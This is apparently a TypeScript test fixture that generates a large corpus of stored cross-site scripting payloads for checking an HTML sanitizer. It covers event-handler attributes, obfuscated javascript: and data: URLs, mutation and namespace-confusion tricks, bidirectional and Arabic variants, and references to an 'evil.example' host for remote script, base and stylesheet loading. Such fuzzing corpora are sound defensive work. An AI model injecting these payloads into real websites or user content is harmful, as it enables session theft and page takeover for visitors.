import naughtyStrings from 'big-list-of-naughty-strings/blns.json' with { type: 'json' }

/**
 * Stored cross-site scripting: payloads as public collections have them (handlers on every element, broken and nested tags,
 * namespaces, encodings of addresses, mutations), with Arabic and bidirectional variants, and a public list of strings that
 * have broken programs.
 */

const CALL = 'alert(document.domain)'
const ELEMENTS = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'iframe', 'details open', 'marquee', 'input autofocus'],
  ...['select autofocus', 'textarea autofocus', 'object data=x', 'embed src=x', 'math', 'a href=#', 'p', 'table', 'td'],
  ...['li', 'span dir=rtl', 'blockquote', 'button', 'form', 'x-custom', 'math><mtext', 'svg><animate'],
  'img src="/media/0b0f4c3e-0000-4000-8000-00000000000a/960.webp" alt="a"',
]
const HANDLERS = ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin', 'ONCLICK', 'onanimationstart']
const onElements = ELEMENTS.flatMap((element) =>
  HANDLERS.flatMap((handler) => [
    `<${element} ${handler}=${CALL}>`,
    `<${element}/${handler}="${CALL}"//>نص`,
    `<${element}\n${handler}\t=\r'${CALL}'`,
  ]),
)

const ADDRESSES = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)'],
  ...['java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)', 'java\0script:alert(1)'],
  ...[
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    '&#0000106avascript:alert(1)',
    'javascript&colon;alert(1)',
  ],
  ...[
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3A;alert(1)',
  ],
  ...[
    'vbscript:msgbox(1)',
    'livescript:x',
    'mocha:x',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,x',
  ],
  ...['data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'blob:https://x/1', 'file:///etc/passwd'],
  ...[
    '//evil.example/x',
    '\\\\evil.example\\x',
    '/\\evil.example',
    'feed:javascript:alert(1)',
    'view-source:javascript:x',
  ],
  ...[
    'jav\u200bascript:alert(1)',
    '\u202ejavascript:alert(1)',
    '\u2066javascript:alert(1)\u2069',
    'ｊavascript:alert(1)',
  ],
  ...[
    'javascript://%0aalert(1)',
    'javascript:/*--></title>alert(1)',
    'x-javascript:alert(1)',
    '\u00a0javascript:alert(1)',
  ],
]
const inAddresses = ADDRESSES.flatMap((address) => [
  `<a href="${address}">اقرأ</a>`,
  `<a href='${address}'>x</a>`,
  `<img src="${address}" alt="a">`,
  `<img alt="a" src="/media/0b0f4c3e-0000-4000-8000-00000000000a/960.webp" srcset="${address} 1x">`,
  `<table background="${address}"><tr><td background="${address}">x</td></tr></table>`,
  `<blockquote cite="${address}">x</blockquote>`,
])

const byHand = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script\n>',
  '<script src=//evil.example/x.js></script>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img title="</style><img src onerror=alert(1)>"></style>',
  '<title><a title="</title><img src onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg>',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script></option></select>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
  '<%<img src=x onerror=alert(1)>%>',
  '<img src=x:x onerror\n=alert(1) alt="نص">',
  '<img """><script>alert(1)</script>">',
  '<img src="/media/0b0f4c3e-0000-4000-8000-00000000000a/960.webp" alt="&quot;><script>alert(1)</script>">',
  '<img src="/media/0b0f4c3e-0000-4000-8000-00000000000a/960.webp" alt=\'" onerror="alert(1)\' width="1">',
  '<img src="/media/0b0f4c3e-0000-4000-8000-00000000000a/960.webp" alt="a" width=\'1" onerror="alert(1)\'>',
  '<img src="/media/../api/users/logout" alt="a">',
  '<img src="/media/0b0f4c3e-0000-4000-8000-00000000000a/960.webp?x=\\"onerror=alert(1)" alt="a">',
  '<p dir=\'rtl" onclick="alert(1)\'>نص</p>',
  "<p lang='ar\"><script>alert(1)</script>'>نص</p>",
  '<p dir="rtl">\u202e<\u200fscript>alert(1)<\u200f/script></p>',
  '<ol start=\'1" onclick="alert(1)\'><li>x</ol>',
  "<td colspan='2\"><img src=x onerror=alert(1)>'>x",
  '<a href="https://x" target=_blank rel=opener onclick=alert(1)>x</a>',
  '<a href="https://x" style="background:url(javascript:alert(1))">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<p style="width:expression(alert(1))">x</p>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<p id="content" name="getElementById" class="admin">clobbered</p>',
  '<form id=x><input name=attributes></form>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '<\0script>alert(1)</script>',
  '<p/\0onclick=alert(1)>x',
  '<p =onclick=alert(1)>x',
  '<a\u00a0href="javascript:alert(1)">x</a>',
  `${'<b>'.repeat(600)}<script>alert(1)</script>`,
]

/** In the order of their kinds; each once. */
export const PAYLOADS: readonly string[] = [...new Set([...onElements, ...inAddresses, ...byHand, ...naughtyStrings])]

/** Of the first payload; each has its own, so that what runs says which one it was. */
const FIRST_MARK = 700_000

export type MarkedPayload = { mark: number; text: string }

/** The same, each calling `alert` with its own mark, and the host of others with it. */
export const MARKED_PAYLOADS: readonly MarkedPayload[] = PAYLOADS.map((payload, index) => {
  const mark = FIRST_MARK + index
  return {
    mark,
    text: payload
      .replaceAll(/alert\((?:1|document\.domain)\)/g, `alert(${mark})`)
      .replaceAll('evil.example', `x${mark}.evil.example`),
  }
})
